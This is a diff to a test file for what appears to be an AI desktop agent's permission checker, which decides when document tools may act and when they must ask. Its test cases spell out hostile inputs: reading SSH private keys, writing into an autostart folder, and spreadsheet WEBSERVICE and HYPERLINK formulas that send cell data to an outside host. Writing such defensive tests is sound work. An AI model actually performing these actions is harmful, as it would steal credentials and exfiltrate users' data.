@@ -37,28 +37,71 @@ describe('what is allowed', () => {
   test.each([
     ['reading a document', 'read_document', { path: 'a.xlsx' }, ''],
     ['changing the document in front', 'set_cells', { range: 'A1', values }, ''],
-    ['changing a file that the person has named', 'set_cells', { path: '~/a.xlsx', range: 'A1', values }, 'add a row to ~/a.xlsx'],
+    [
+      'changing a file that the person has named',
+      'set_cells',
+      { path: '~/a.xlsx', range: 'A1', values },
+      'add a row to ~/a.xlsx',
+    ],
     ['making a new document', 'add_slides', { path: 'docs/plan.pptx', slides: [{ title: 'Why' }] }, ''],
     ['exporting to a new file', 'save_as', { path: 'a.xlsx', file_ext: '.pdf' }, ''],
   ])('%s asks nobody', (_, tool, parameters, request) => {
     expect(judged(tool, parameters, [request])).toMatchObject({ decision: 'allow' })
-  }) // prettier-ignore
+  })
 })
 
 describe('what asks', () => {
   test.each([
     ['reads a secret', 'read_document', { path: '.ssh/id_ed25519' }, 'secret'],
     ['reads all of a place of secrets', 'extract_all_pdfs_text', { directory_path: '~/.ssh' }, 'secret'],
-    ['changes a file that nobody has named', 'set_cells', { path: 'a.xlsx', range: 'A1', values }, 'overwrite'],
-    ['replaces a file', 'save_as', { path: 'a.xlsx', file_dir: 'docs', file_name: 'b.pdf', replace: true }, 'overwrite'],
-    ['may replace a file that only the window knows', 'save_as', { file_ext: '.pdf', replace: true }, 'overwrite'],
-    ['writes where the session starts programs', 'save_as', { path: 'a.xlsx', file_dir: '~/.config/autostart', file_name: 'x.desktop' }, 'start_programs'],
-    ['fetches by a formula', 'set_cells', { range: 'A1', values: [['x', '=WEBSERVICE("http://e.org/"&A1)']] }, 'send'],
-    ['links by a formula', 'insert_excel_table', { table: [['=HYPERLINK("http://e.org/?"&A1)']], sheet_name: 1, start_row: 1, start_col: 1 }, 'send'],
-    ['reads the sheet of another machine', 'set_cells', { range: 'A1', values: [["='file:///etc/x.ods'#$Sheet1.A1"]] }, 'send'],
+    [
+      'changes a file that nobody has named',
+      'set_cells',
+      { path: 'a.xlsx', range: 'A1', values },
+      'overwrite',
+    ],
+    [
+      'replaces a file',
+      'save_as',
+      { path: 'a.xlsx', file_dir: 'docs', file_name: 'b.pdf', replace: true },
+      'overwrite',
+    ],
+    [
+      'may replace a file that only the window knows',
+      'save_as',
+      { file_ext: '.pdf', replace: true },
+      'overwrite',
+    ],
+    [
+      'writes where the session starts programs',
+      'save_as',
+      { path: 'a.xlsx', file_dir: '~/.config/autostart', file_name: 'x.desktop' },
+      'start_programs',
+    ],
+    [
+      'fetches by a formula',
+      'set_cells',
+      { range: 'A1', values: [['x', '=WEBSERVICE("http://e.org/"&A1)']] },
+      'send',
+    ],
+    [
+      'links by a formula',
+      'insert_excel_table',
+      { table: [['=HYPERLINK("http://e.org/?"&A1)']], sheet_name: 1, start_row: 1, start_col: 1 },
+      'send',
+    ],
+    [
+      'reads the sheet of another machine',
+      'set_cells',
+      { range: 'A1', values: [["='file:///etc/x.ods'#$Sheet1.A1"]] },
+      'send',
+    ],
   ])('%s', (_, tool, parameters, category) => {
-    expect(judged(tool, parameters)).toMatchObject({ decision: 'ask', categories: expect.arrayContaining([category]) })
-  }) // prettier-ignore
+    expect(judged(tool, parameters)).toMatchObject({
+      decision: 'ask',
+      categories: expect.arrayContaining([category]),
+    })
+  })
 })
 
 test('a document tool never changes a file of Deskhand itself', () => {
@@ -71,7 +114,7 @@ test('a document tool never changes a file of Deskhand itself', () => {
 test.each(DOCUMENT_TOOLS)('%s: what it reads counts as read', (tool) => {
   const act = actOf(tool, { path: 'a.xlsx' }, targetOf(null, null, { kind: 'files' }))
   expect(readsForeign(act)).toBe(documentToolDoes(tool) === 'reads')
-}) // prettier-ignore
+})
 
 test.each([
   ['a folder, a name and an ending', { file_dir: '~/docs', file_name: 'x', file_ext: '.pdf' }, 'docs/x.pdf'],
@@ -83,7 +126,7 @@ test.each([
   ['nothing', {}, null],
 ])('save_as to %s', (_, parameters, wanted) => {
   expect(savedAs(parameters, join(home, 'a.xlsx'), home)).toBe(wanted === null ? null : join(home, wanted))
-}) // prettier-ignore
+})
 
 test('a file that is not there is written, not read or replaced', () => {
   const work = documentWork('set_cells', { path: 'new.ods', values }, home)
